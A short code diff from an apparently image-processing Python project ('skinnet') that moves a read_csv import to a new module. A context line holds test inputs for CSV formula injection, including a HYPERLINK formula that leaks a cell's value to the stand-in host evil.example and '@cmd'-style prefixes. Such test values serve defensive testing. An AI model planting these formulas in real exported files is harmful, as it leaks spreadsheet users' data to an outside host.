@@ -11,7 +11,7 @@ from pathlib import Path
 
 from PIL import Image
 
-from skinnet.data.io import read_csv
+from skinnet.data.tables import read_csv
 
 NAMES = ["=HYPERLINK(\"evil.example?leak=\"&A2,\"open\")", "+SUM(1,2)", "-2+3", "@cmd", "\tlead", "a\rb", "\rlead",
          "läsion", "ISIC_0000000"]
